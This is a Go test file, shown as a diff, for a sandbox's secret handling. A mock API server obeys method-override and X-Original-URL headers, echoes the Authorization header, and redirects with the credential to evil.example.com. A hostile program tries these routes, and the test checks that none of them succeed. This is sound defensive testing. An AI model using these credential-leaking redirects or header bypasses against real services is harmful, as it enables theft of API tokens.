@@ -1,0 +1,103 @@
+package sandbox
+
+import (
+	"bufio"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+// secretTargets has the fields that the hostile program reads.
+type secretTargets struct {
+	Base, Host, Port, Evil, File string
+	Halves                       [2]string
+}
+
+// everythingAPI does whatever those ask for who have the credential, and tells it to them. Of
+// headers that some servers obey, it obeys all.
+func everythingAPI(w http.ResponseWriter, r *http.Request) {
+	method, path := r.Method, r.URL.Path
+	for name, values := range r.Header {
+		switch strings.ReplaceAll(strings.ToLower(name), "_", "-") {
+		case "x-http-method-override":
+			method = values[0]
+		case "x-original-url":
+			path = values[0]
+		}
+	}
+	switch host, _, _ := strings.Cut(r.Host, ":"); {
+	case method != http.MethodGet, path != "/hello", host != "api.example.com":
+		fmt.Fprintln(w, "owned")
+	case r.URL.RawQuery == "echo":
+		w.Header().Set("X-You-Said", r.Header.Get("Authorization"))
+		fmt.Fprintln(w, "hello")
+	case r.URL.RawQuery == "told":
+		redirect(w, "https://evil.example.com/?key="+credential)
+	case r.URL.RawQuery == "away":
+		redirect(w, "https://"+strings.Replace(r.Host, "api", "evil", 1)+"/admin")
+	default:
+		fmt.Fprintln(w, "hello")
+	}
+}
+
+// redirect does not repeat the URL in a body, as http.Redirect does: bodies are not looked at.
+func redirect(w http.ResponseWriter, to string) {
+	w.Header().Set("Location", to)
+	w.WriteHeader(http.StatusFound)
+}
+
+// A hostile program that uses a secret neither gets hold of it nor has it used for anything else
+// than the rules allow, at every level that has a network, as root and as a user. Issue 35, line
+// 6 of what must be shown.
+func TestSecretAttacks(t *testing.T) {
+	a := serveAPI(t, http.HandlerFunc(everythingAPI))
+	for _, w := range everybody {
+		o := newOutside(t, w)
+		file := filepath.Join(o.base, "xdg_config_home", "token")
+		must(t, os.WriteFile(file, []byte(credential+"\n"), 0o600))
+		o.own(file)
+		o.settings(fmt.Sprintf("[[secret]]\nname = \"API_TOKEN\"\nurl = \"https://api.example.com:%s\"\nallow = [\"GET /hello\"]\nfile = %q\n", a.port, file))
+		half := len(credential) / 2
+		raw, err := json.Marshal(secretTargets{
+			Base: "api-token.secret.internal", Host: "api.example.com", Port: a.port, Evil: "evil.example.com", File: file,
+			Halves: [2]string{credential[:half], credential[half:]},
+		})
+		must(t, err)
+		names, table := []string{}, map[string]map[string]result{}
+		for _, level := range netLevels {
+			ord := o.shell(level, "--net=127.0.0.5:"+a.port, "./hostile -secret '"+string(raw)+"'")
+			ord.Args = slices.Insert(ord.Args, len(ord.Args)-4, "--secret", "API_TOKEN") // before --
+			ord.Env = append(slices.Clone(o.env), "SSL_CERT_FILE="+a.certificate)
+			stdout, log, code := o.run(ord)
+			names = names[:0]
+			results := map[string]result{}
+			for lines := bufio.NewScanner(strings.NewReader(stdout)); lines.Scan(); {
+				var res result
+				must(t, json.Unmarshal(lines.Bytes(), &res))
+				switch results[res.Name] = res; {
+				case res.Name == "" && res.Detail != "it is left out": // that is, it is answered
+					t.Errorf("%s, %s: what is allowed does not work: %s", w.name, level, res.Detail)
+				case res.Name != "" && res.Worked:
+					t.Errorf("%s, %s: %q works", w.name, level, res.Name)
+				}
+				if res.Name != "" {
+					names = append(names, res.Name)
+				}
+			}
+			if len(names) < 20 || code != 0 {
+				t.Fatalf("%s, %s: exit code %d, %d attempts were made\n%s%s", w.name, level, code, len(names), stdout, log)
+			}
+			table[level.String()] = results
+		}
+		made := strings.Replace(attacksTable(names, table), "--net=HOSTS", "--secret", 1)
+		t.Log("\n" + made)
+		if w.uid == 0 {
+			compareRows(t, "security", made)
+		}
+	}
+}
